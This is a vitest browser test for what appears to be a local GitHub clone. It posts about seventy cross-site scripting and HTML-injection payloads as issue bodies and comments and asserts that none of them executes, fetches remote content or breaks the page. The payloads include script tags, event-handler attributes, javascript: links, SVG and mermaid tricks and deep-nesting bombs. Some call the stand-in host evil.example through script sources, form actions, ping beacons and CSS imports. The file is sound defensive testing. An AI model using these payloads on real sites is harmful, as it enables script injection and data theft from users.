// People's text on the pages of the local GitHub, written to attack who looks at it: in a real browser nothing of it runs and nothing is fetched.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startBrowser } from '../support/browser.ts';
import type { TestBrowser } from '../support/browser.ts';
import { createWorld } from '../support/github.ts';
import { hasChromium } from '../support/requirements.ts';

/** Each tries to say `alert(1)`, to load from `evil.example`, or to change the page around it. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png" alt="picture">',
  '<img/src="x"/onerror=alert(1)//',
  '<img src=`x` onerror=alert(1)>',
  '<img srcset="https://evil.example/p.png 1x">',
  '![p](https://evil.example/p.png)',
  '![p](x "onerror=alert(1)")',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#10;script:alert(1))',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:alert(1)">a</a>',
  '<a href="blob:null/1">a</a>',
  '<a href="#" onclick="alert(1)">a</a>',
  '<a href="x" ping="https://evil.example/ping">a</a>',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">a</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css); body { display: none }</style>',
  '<div style="background:url(https://evil.example/p.png);position:fixed;inset:0">over</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q><button>send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">b</button>',
  '<details open ontoggle=alert(1)><summary>s</summary>t</details>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '</div></article></main><script>alert(1)</script><h1 id=content>taken over</h1>',
  '<p id="content" class="skip" name="body">named</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '`</code><script>alert(1)</script>`',
  '```"onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b["</text></svg><script>alert(1)</script>"]\n  click a "javascript:alert(1)"\n```',
  '```mermaid\nflowchart LR\n  a["&lt;script&gt;alert(1)&lt;/script&gt;"] --> b\n  style a fill:url(https://evil.example/p.svg#x),stroke:red\n  classDef x fill:"onload=alert(1)"\n  class b x\n```',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [x] <img src=x onerror=alert(1)>',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)> " onmouseover="alert(1)',
  '@<script>alert(1)</script> #1"onclick="alert(1) playhouse/<b>#1',
  '<b>'.repeat(5_000),
  '<div>'.repeat(5_000),
  `${'> '.repeat(2_000)}deep`,
  '[['.repeat(5_000),
];

describe.runIf(hasChromium)('hostile text', () => {
  let browser: TestBrowser;
  let world: Awaited<ReturnType<typeof createWorld>>;
  beforeAll(async () => {
    [browser, world] = await Promise.all([startBrowser(), createWorld()]);
  });
  afterAll(() => Promise.all([browser.close(), world.close()]));

  /** What moves, is pointed at and clicked on a page. */
  async function provoke(path: string): Promise<readonly string[]> {
    const { page, complaints } = await browser.open(`${world.github.url}/${world.fullName}${path}`);
    const found: string[] = await page.evaluate(`(() => {
      const bad = [...document.querySelectorAll('main *')].filter((element) =>
        ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'IMG', 'VIDEO', 'AUDIO', 'MATH', 'TEMPLATE'].includes(element.tagName) ||
        [...element.attributes].some(({ name, value }) => name.startsWith('on') || name === 'style' || /^\\s*(?:javascript|data|vbscript|blob):/i.test(value) || (name !== 'href' && /evil\\.example/.test(value) && element.namespaceURI.endsWith('svg'))));
      for (const element of document.querySelectorAll('.markdown-body *'))
        for (const name of ['mouseover', 'focus', 'toggle', 'error', 'load']) element.dispatchEvent(new Event(name));
      return bad.map((element) => element.outerHTML.slice(0, 200));
    })()`);
    const frame = await page.locator('main, footer, header').count();
    const bodies = await page.locator('main article .markdown-body').count();
    await page.context().close();
    return [
      ...complaints,
      ...found,
      ...(frame === 3 ? [] : [`${frame} landmarks`]),
      ...(bodies > 0 ? [] : ['nothing was shown']),
    ];
  }

  test(`${attacks.length} attacks, each the body of an issue: none runs, none fetches, none leaves its box`, async () => {
    const harm: Record<string, readonly string[]> = {};
    const left = [...attacks];
    async function tryTheRest(): Promise<void> {
      for (let attack = left.shift(); attack !== undefined; attack = left.shift()) {
        const wish = { title: attack.slice(0, 200), body: attack };
        const number = await world.github.as('reporter').openIssue(world.fullName, wish);
        const complaints = await provoke(`/issues/${number}`);
        if (complaints.length > 0) harm[attack.slice(0, 80)] = complaints;
      }
    }
    await Promise.all([tryTheRest(), tryTheRest(), tryTheRest(), tryTheRest()]);
    expect(harm).toEqual({});
  });

  test('all of them as comments of one issue, each in its own box', async () => {
    const number = await world.github
      .as('reporter')
      .openIssue(world.fullName, { title: 'All of them', body: 'Below.' });
    for (const attack of attacks) await world.github.as('reporter').comment(world.fullName, number, attack);
    expect(await provoke(`/issues/${number}`)).toEqual([]);
    const { page } = await browser.open(`${world.github.url}/${world.fullName}/issues/${number}`);
    expect(await page.locator('article').count()).toBe(attacks.length + 1);
    await page.context().close();
  });
});
